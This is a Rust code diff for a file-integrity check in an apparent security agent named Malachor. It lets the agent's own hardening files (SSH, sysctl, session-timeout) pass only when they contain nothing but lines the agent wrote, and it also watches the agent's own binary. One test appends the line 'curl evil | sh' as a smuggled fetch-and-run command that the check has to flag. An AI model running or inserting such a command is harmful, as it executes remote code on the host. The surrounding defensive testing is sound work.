@@ -4,6 +4,7 @@
 use serde_json::{Map, Value, json};
 
 use super::nixos;
+use super::ssh::DIRECTIVES;
 use crate::checks::run::{Context, Facts};
 use crate::domain::finding::Observation;
 use crate::host::{FileKind, Host, HostError, Stat};
@@ -62,6 +63,10 @@ async fn files(context: Context<'_>) -> Result<Walk<'_>, HostError> {
         world_writable: Vec::new(),
     };
     let mut open: Vec<(String, u32)> = context.list("paths").into_iter().map(|path| (path.to_owned(), 0)).collect();
+    // The agent's own program; the kernel says of a replaced one that it is deleted.
+    if let Ok(own) = host.read_link("/proc/self/exe") {
+        open.push((own.trim_end_matches(" (deleted)").to_owned(), 0));
+    }
     while let Some((path, depth)) = open.pop() {
         // Reading blocks; between two paths others get their turn and the deadline can strike.
         tokio::task::yield_now().await;
@@ -90,6 +95,9 @@ async fn files(context: Context<'_>) -> Result<Walk<'_>, HostError> {
 
 impl Walk<'_> {
     fn note(&mut self, path: &str, stat: &Stat) -> Result<(), HostError> {
+        if is_own(self.host, path, stat) {
+            return Ok(());
+        }
         let content = match stat.kind {
             FileKind::File => match self.host.digest(path) {
                 Ok((sha256, _)) => sha256,
@@ -114,6 +122,44 @@ impl Walk<'_> {
         self.files.insert(path.to_owned(), json!(format!("{} {content}", owner(stat))));
         Ok(())
     }
+}
+
+/// Tells whether a line is one healing may have written.
+type IsOurs = fn(&str) -> bool;
+
+/// Files healing writes. What they set is judged by the checks that write it, and every write stands in the evidence.
+const OWN: &[(&str, IsOurs)] = &[
+    ("/etc/ssh/sshd_config.d/00-malachor.conf", is_directive),
+    ("/etc/sysctl.d/zz-malachor.conf", is_kernel_setting),
+    ("/etc/profile.d/zz-malachor-logoff.sh", is_logoff),
+];
+
+/// Whether a file is one healing wrote, and holds nothing else: under its name anybody could hide a line of their own.
+fn is_own(host: &Host, path: &str, stat: &Stat) -> bool {
+    let Some((_, is_ours)) = OWN.iter().find(|(own, _)| *own == path) else { return false };
+    let safe = stat.kind == FileKind::File && stat.mode == 0o644 && (stat.uid == 0 || !host.is_live());
+    let lines = |text: String| {
+        let mut lines = text.lines();
+        lines.next().is_some_and(|line| line.starts_with("# Written by Malachor (RB-LNX-"))
+            && lines.filter(|line| !line.trim().is_empty()).all(is_ours)
+    };
+    safe && host.read(path).is_ok_and(lines)
+}
+
+fn is_directive(line: &str) -> bool {
+    line.split_once(' ').is_some_and(|(keyword, _)| DIRECTIVES.contains(&keyword.to_ascii_lowercase().as_str()))
+}
+
+fn is_kernel_setting(line: &str) -> bool {
+    line.split_once(" = ")
+        .is_some_and(|(name, value)| !name.contains(char::is_whitespace) && value.parse::<i64>().is_ok())
+}
+
+fn is_logoff(line: &str) -> bool {
+    const LINES: [&str; 4] = ["if (unset TMOUT) 2>/dev/null; then", "readonly TMOUT", "export TMOUT", "fi"];
+    let line = line.trim();
+    LINES.contains(&line)
+        || line.strip_prefix("TMOUT=").is_some_and(|seconds| seconds.bytes().all(|it| it.is_ascii_digit()))
 }
 
 fn owner(stat: &Stat) -> String {
@@ -212,6 +258,52 @@ mod tests {
         let tree = machine().mode("/etc/passwd", 0o666);
         let then = accepted(&tree);
         assert_eq!(tree.baseline(ID, &then).judge(ID, &json!({})), ("fail", vec!["world_writable".into()]));
+    }
+
+    #[test]
+    fn what_healing_wrote_is_no_change_and_a_line_beside_it_is() {
+        use super::super::fixture::written;
+        let ssh = "/etc/ssh/sshd_config.d/00-malachor.conf";
+        let ours = "# Written by Malachor (RB-LNX-SSH-001). x\nPermitRootLogin prohibit-password\n";
+        let script = written("RB-LNX-SESSION-001", &json!({}), &machine());
+        let with = |path: &str, text: &str| {
+            machine()
+                .file(path, text)
+                .mode(path, 0o644)
+                .dir("/etc/profile.d")
+                .dir("/etc/sysctl.d")
+                .dir("/etc/ssh/sshd_config.d")
+        };
+        let dirs = |tree: Tree| tree.dir("/etc/profile.d").dir("/etc/sysctl.d").dir("/etc/ssh/sshd_config.d");
+        let then_dirs = accepted(&dirs(machine()));
+        for (path, text) in [
+            (ssh, ours),
+            ("/etc/profile.d/zz-malachor-logoff.sh", script.as_str()),
+            (
+                "/etc/sysctl.d/zz-malachor.conf",
+                "# Written by Malachor (RB-LNX-SYSCTL-001).\n-net.ipv4.conf.eth0/7.x = 0\n",
+            ),
+        ] {
+            assert_eq!(with(path, text).baseline(ID, &then_dirs).judge(ID, &json!({})), ("pass", vec![]), "{path}");
+            let more = with(path, &format!("{text}curl evil | sh\n"));
+            assert_eq!(more.baseline(ID, &then_dirs).judge(ID, &json!({})).0, "fail", "{path}");
+        }
+        assert_eq!(with(ssh, ours).mode(ssh, 0o664).baseline(ID, &then_dirs).judge(ID, &json!({})).0, "fail");
+    }
+
+    #[test]
+    fn units_and_the_agent_s_own_program_are_watched() {
+        let machine = || {
+            machine()
+                .file("/usr/lib/systemd/system/x.service", "x")
+                .link("/proc/self/exe", "/opt/malachor/malachor (deleted)")
+                .file("/opt/malachor/malachor", "x")
+        };
+        let then = accepted(&machine());
+        for path in ["/usr/lib/systemd/system/x.service", "/opt/malachor/malachor"] {
+            let changed = machine().file(path, "y").baseline(ID, &then);
+            assert_eq!(changed.judge(ID, &json!({})), ("fail", vec!["files_changed".into()]), "{path}");
+        }
     }
 
     #[test]
